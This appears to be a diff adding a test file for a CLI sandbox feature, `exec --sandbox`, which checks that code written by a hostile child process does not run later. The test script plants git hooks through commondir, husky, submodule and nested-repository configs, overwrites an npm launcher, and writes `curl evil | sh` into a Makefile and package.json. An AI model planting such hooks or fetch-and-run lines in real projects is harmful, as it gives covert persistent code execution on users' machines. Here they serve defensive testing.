@@ -1,0 +1,157 @@
+/**
+ * `exec --sandbox`: nothing the child writes runs later (attacks S7, decisions 64). In real
+ * repositories made with git, a hostile child plants code where git, a hook manager or mmauth would
+ * run it: `.git/commondir` pointing at a config of its own, a `.git` file in a subdirectory, a
+ * submodule's config and hooks, a husky repository's live hook (core.hooksPath inside the tree),
+ * repositories 1–4 levels down, a repository under --allow-write, mmauth installed in the project's
+ * node_modules. Afterwards the user's own `git status` and `git commit` and `npx mmauth` run none
+ * of it, and the child's own `git add -A && git commit` worked. Without --sandbox (the control) the
+ * same child's code runs.
+ */
+import { spawnSync } from 'node:child_process';
+import { chmodSync, existsSync, mkdirSync, readdirSync, writeFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { describe, expect, it } from 'vitest';
+import { makeScratchDir, runCli } from '../support/cli.js';
+import { fileLogin } from '../support/file-login.js';
+
+/** A fixed git identity, and no system or global configuration. */
+const GIT_ENV = {
+  GIT_AUTHOR_NAME: 'u',
+  GIT_AUTHOR_EMAIL: 'u@example.com',
+  GIT_COMMITTER_NAME: 'u',
+  GIT_COMMITTER_EMAIL: 'u@example.com',
+  GIT_CONFIG_NOSYSTEM: '1',
+  GIT_CONFIG_GLOBAL: '/dev/null',
+};
+
+/** Runs git in `cwd` with a fixed identity; returns its status and output. */
+function git(cwd: string, ...args: string[]) {
+  const result = spawnSync('git', args, {
+    cwd,
+    encoding: 'utf8',
+    env: { PATH: process.env.PATH ?? '', HOME: cwd, ...GIT_ENV },
+  });
+  return { status: result.status, output: `${result.stdout}${result.stderr}` };
+}
+
+/** A repository at `dir` with one commit. */
+function repository(dir: string, hooksPath?: string): void {
+  mkdirSync(dir, { recursive: true });
+  expect(git(dir, 'init', '-q', '-b', 'main').status).toBe(0);
+  if (hooksPath !== undefined) {
+    mkdirSync(join(dir, hooksPath), { recursive: true });
+    writeFileSync(join(dir, hooksPath, 'pre-commit'), '#!/bin/sh\nexit 0\n');
+    chmodSync(join(dir, hooksPath, 'pre-commit'), 0o755);
+    expect(git(dir, 'config', 'core.hooksPath', hooksPath).status).toBe(0);
+  }
+  writeFileSync(join(dir, 'README'), 'project\n');
+  expect(git(dir, 'add', '-A').status).toBe(0);
+  expect(git(dir, 'commit', '-qm', 'start').status).toBe(0);
+}
+
+/**
+ * The hostile child's script: `$1` is where planted code leaves its marker. First the child's own
+ * commit in the working directory (it must work); then every plant, whose failures are expected
+ * under the sandbox.
+ */
+const PLANT = `
+echo work > work.txt; git add -A >&2 && git commit -qm "the child's work" --no-verify >&2 && echo committed
+m="$1"; hook="#!/bin/sh
+touch $m/ran-\\$(basename \\$0)-\\$\\$"
+evil=$(mktemp -d "$PWD/evil.XXXX"); mkdir -p "$evil/hooks"
+printf '%s\\n' "$hook" > "$evil/hooks/post-checkout"; cp "$evil/hooks/post-checkout" "$evil/hooks/pre-commit"
+chmod +x "$evil/hooks/"*; printf '[core]\\n\\thooksPath = %s/hooks\\n' "$evil" > "$evil/config"
+echo "$evil" > .git/commondir 2>/dev/null
+printf '%s\\n' "$hook" >> .husky/_/pre-commit 2>/dev/null
+mkdir -p .git/modules/sub/hooks 2>/dev/null; printf '[core]\\n\\thooksPath = %s/hooks\\n' "$evil" > .git/modules/sub/config 2>/dev/null
+mkdir -p inner && echo "gitdir: $evil" > inner/.git
+for r in d1 d1/d2 d1/d2/d3 d1/d2/d3/d4 "$2"; do
+  printf '[core]\\n\\thooksPath = %s/hooks\\n' "$evil" >> "$r/.git/config" 2>/dev/null
+  printf '%s\\n' "$hook" > "$r/.git/hooks/pre-commit" 2>/dev/null; chmod +x "$r/.git/hooks/pre-commit" 2>/dev/null
+done
+printf '%s\\n' "#!/bin/sh" "touch $m/ran-npx-mmauth" > node_modules/mmauth/bin/mmauth.cjs 2>/dev/null
+exit 0
+`;
+
+describe('exec --sandbox: nothing the child writes runs later', () => {
+  it.each([
+    ['without --sandbox (the control: planted code runs)', false],
+    ['under --sandbox', true],
+  ])(
+    '%s',
+    async (_, isSandboxed) => {
+      const { env } = await fileLogin();
+      const project = makeScratchDir('victim-project-', 0o755);
+      const allowed = makeScratchDir('victim-allowed-', 0o755);
+      const markers = makeScratchDir('victim-markers-', 0o777);
+      repository(project, '.husky/_');
+      for (const depth of ['d1', 'd1/d2', 'd1/d2/d3', 'd1/d2/d3/d4']) repository(join(project, depth));
+      repository(allowed);
+      // mmauth as a project installs it (its launcher is what `npx mmauth` runs).
+      mkdirSync(join(project, 'node_modules', 'mmauth', 'bin'), { recursive: true });
+      writeFileSync(
+        join(project, 'node_modules', 'mmauth', 'package.json'),
+        '{"name":"mmauth","bin":{"mmauth":"bin/mmauth.cjs"}}\n',
+      );
+      writeFileSync(join(project, 'node_modules', 'mmauth', 'bin', 'mmauth.cjs'), '#!/bin/sh\necho real\n');
+      chmodSync(join(project, 'node_modules', 'mmauth', 'bin', 'mmauth.cjs'), 0o755);
+      const sandbox = isSandboxed ? ['--sandbox', '--allow-write', allowed] : [];
+      const result = await runCli(['exec', ...sandbox, '--', 'sh', '-c', PLANT, 'sh', markers, allowed], {
+        env,
+        cwd: project,
+        timeoutMs: 60_000,
+      });
+      expect(result.code, result.stderr).toBe(0);
+      expect(result.stdout, result.stderr).toContain('committed');
+      // The user's next ordinary work, outside the sandbox.
+      for (const dir of [project, join(project, 'inner'), join(project, 'd1'), join(project, 'd1/d2/d3/d4'), allowed]) {
+        git(dir, 'status');
+        writeFileSync(join(dir, 'later.txt'), 'later\n');
+        git(dir, 'add', 'later.txt');
+        git(dir, 'commit', '-qm', 'later');
+        git(dir, 'checkout', '-q', '-b', `b${Date.now()}`);
+      }
+      spawnSync(join(project, 'node_modules', 'mmauth', 'bin', 'mmauth.cjs'), ['token'], { cwd: project });
+      const ran = readdirSync(markers);
+      if (isSandboxed) {
+        expect(ran).toEqual([]);
+        expect(result.stderr).toMatch(/planted .*inner\/\.git.*moved aside/);
+      } else {
+        expect(ran.length).toBeGreaterThan(3);
+      }
+      expect(existsSync(join(project, 'work.txt'))).toBe(true);
+    },
+    120_000,
+  );
+});
+
+describe('exec --sandbox says what the child changed that runs when the user next works there', () => {
+  it('a changed Makefile, .envrc and package.json script are named on stderr; a run that changed only source files says nothing', async () => {
+    const { env } = await fileLogin();
+    const project = makeScratchDir('victim-report-', 0o755);
+    writeFileSync(join(project, 'Makefile'), 'all:\n\ttrue\n');
+    writeFileSync(join(project, 'package.json'), '{"name":"p","scripts":{"test":"true"}}\n');
+    mkdirSync(join(project, 'src'));
+    const quiet = await runCli(['exec', '--sandbox', '--', 'sh', '-c', 'echo "x = 1" > src/main.py'], {
+      env,
+      cwd: project,
+      timeoutMs: 60_000,
+    });
+    expect(quiet.code, quiet.stderr).toBe(0);
+    expect(quiet.stderr).not.toMatch(/changed what runs|planted/);
+    const script = [
+      `printf 'all:\\n\\tcurl evil | sh\\n' > Makefile`,
+      `echo 'export X=1' > .envrc`,
+      `echo '{"name":"p","scripts":{"test":"curl evil | sh"}}' > package.json`,
+    ].join('; ');
+    const loud = await runCli(['exec', '--sandbox', '--', 'sh', '-c', script], {
+      env,
+      cwd: project,
+      timeoutMs: 60_000,
+    });
+    expect(loud.code, loud.stderr).toBe(0);
+    expect(loud.stderr).toMatch(/changed what runs when you next work there/);
+    for (const name of ['Makefile', '.envrc', 'package.json']) expect(loud.stderr).toContain(join(project, name));
+  }, 120_000);
+});
